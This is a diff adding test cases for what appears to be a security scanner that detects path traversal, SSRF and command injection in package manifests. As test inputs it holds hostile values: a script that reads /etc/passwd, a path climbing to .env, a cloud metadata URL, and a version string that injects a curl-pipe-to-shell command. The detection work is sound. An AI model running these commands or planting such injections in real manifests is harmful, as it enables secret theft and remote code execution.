@@ -1286,4 +1286,10 @@ t.test('JSON documents (json22): application repositories\' documents by kind, a
   t.same(json(pkg('graphql-codegen --require dotenv/config --config gql-codegen.yml dotenv_config_path="../../.env" --watch')), [], 'dotenv_config_path="../../.env"')
   t.ok(json(pkg('tsc && cat ../../../../etc/passwd')).includes('path_traversal'), 'a system file climbed to in a script')
   t.ok(json({ file: '../../.env' }).includes('path_traversal'), "a request's file field climbing to .env")
+  // a dependency's version under a name with a URL's word (`web-api`, `astro-remote`) is no shortened address of anyone's
+  t.same(json({ name: 'slackbot', version: '0.1.0', dependencies: { '@slack/web-api': '7.0.1', 'astro-remote': '0.3.4', next: '14.0.0' } }), [], 'versions')
+  t.same(json({ require: { 'php': '>=8.1', 'guzzlehttp/guzzle': '7.8.1', 'league/flysystem-aws-s3-v3': '3.0.0' } }), [], "a composer manifest's require")
+  t.same(q('11.5.1', 'webhook_url'), ['ssrf'], 'a short address under a field named for a URL still')
+  t.ok(json({ name: 'x', dependencies: { 'web-api': 'http://169.254.169.254/latest/meta-data/' } }).includes('ssrf'), 'a metadata URL as a dependency')
+  t.ok(json({ name: 'x', devDependencies: { a: '1.0.0; curl http://x.oastify.com | sh' } }).includes('rce'), 'an injection into a version')
 })
